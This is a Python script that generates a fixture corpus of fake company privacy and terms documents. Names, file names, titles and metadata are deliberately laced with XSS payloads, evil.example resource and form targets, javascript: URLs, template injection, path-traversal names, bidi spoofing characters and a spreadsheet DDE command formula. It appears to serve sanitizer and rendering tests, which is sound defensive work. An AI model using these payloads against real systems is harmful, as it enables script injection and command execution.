# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes a small corpus of invented companies whose names, files, titles, addresses and texts want to be more than text.

Every attack that would run calls pwned(), or asks for a file of evil.example, or leaves an element or attribute that no page of ours has.
"""
import json

MARKUP = (
    "<script>pwned()</script>", "</script><script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>",
    "</style><style>@import '//evil.example/x.css';*{background:url(//evil.example/x.png)}</style>", "--></title></textarea><script>pwned()</script><!--",
    "\" onmouseover=\"pwned()\" autofocus onfocus=\"pwned()", "' onclick='pwned()' x='", "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<a href=\"javascript:pwned()\">our rules</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<details open ontoggle=pwned()>", "<form action=//evil.example/><button>Send</button></form>", "&lt;script&gt;pwned()&lt;/script&gt;",
    "[our rules](javascript:pwned())", "![x](//evil.example/x.png)", "{{constructor.constructor('pwned()')()}}", "${pwned()}", "[[Silent]]", "{{main}}",
    "<template><script>pwned()</script></template>", "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()>", "\u2028pwned()\u2029",
    "<!-- part: page -->", "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
)
UNSEEN = "\u202Eelif.exe\u202C \u2066hidden\u2069 pass\u200Bword \u061C \uFEFF \U000E0041\U000E0042 co\u200Dokies \u0007 \u00AD"
ACCENTS = "z" + "\u0301" * 400
CLAUSES = (
    "We keep your personal data for 3 years after the contract ends. {} They are then erased.",
    "We use cookies and analytics. {} You may refuse cookies in the browser.",
    "You may return the goods within 14 days. {} Money is refunded within 10 working days.",
    "You may complain to the Personal Data Protection Service. {}",
    "პერსონალურ მონაცემებს ვინახავთ 3 წლის განმავლობაში. {} შემდეგ ისინი იშლება.",
    "ქუქიფაილებს ვიყენებთ საიტის მუშაობისთვის. {}",
)
COMPANIES = {  # folder name -> display name
    "\"><img src=x onerror=pwned()>": "<script>pwned()</script>",
    "' onclick='pwned()'": "' onclick='pwned()' & Sons",
    "javascript:pwned()": "javascript:pwned()",
    "up%2f..%2f..%2findex": "../../index.html",
    "\u202Emoc.knab\u202C": "\u202Emoc.knab\u202C" + ACCENTS,
    "=cmd|' 'calc'!A1": "=HYPERLINK(\"http://evil.example\")",
}


def text_of(number):
    lines = [f"{MARKUP[number % len(MARKUP)]} Privacy and Terms"]
    for i, markup in enumerate(MARKUP + (UNSEEN, ACCENTS)):
        if i % 6 == 0:
            lines += ["", f"{i // 6 + 1}. {MARKUP[(number + i) % len(MARKUP)]} {UNSEEN if i == 6 else ''}"]
        lines += ["", f"{i // 6 + 1}.{i % 6 + 1}. " + CLAUSES[(number + i) % len(CLAUSES)].format(markup)]
    return "\n".join(lines) + "\n"


def write_corpus(folder):
    """Two documents a company, one of them as a web page, with particulars that are attacks too."""
    for number, (company, display) in enumerate(COMPANIES.items()):
        home = folder / company
        home.mkdir(parents=True)
        pages = {f"{MARKUP[number * 2].replace('/', '⁄')}.txt": text_of(number),
                 "x' autofocus onfocus='pwned().html": "<title>" + MARKUP[number].replace("<", "&lt;") + "</title><h1>Terms</h1>" + "".join(
                     f"<p onclick=pwned()>{CLAUSES[i % 6].format(markup)}</p>" for i, markup in enumerate(MARKUP))}
        particulars = [f"name = {json.dumps(display)}", f"name_ka = {json.dumps(MARKUP[number])}", 'website = "javascript:pwned()"']
        for name, text in pages.items():
            (home / name).write_text(text, encoding="utf-8")
            url = ("javascript:pwned()", "https://a.example@evil.example/", "https://a.example/\" onclick=\"pwned()", "//evil.example/")[number % 4]
            particulars += [f"[document.{json.dumps(name)}]", f"url = {json.dumps(url)}", f"licence = {json.dumps(MARKUP[number + 3])}",
                            f"type = {json.dumps(MARKUP[number + 5])}"]
        (home / "company.toml").write_text("\n".join(particulars) + "\n", encoding="utf-8")
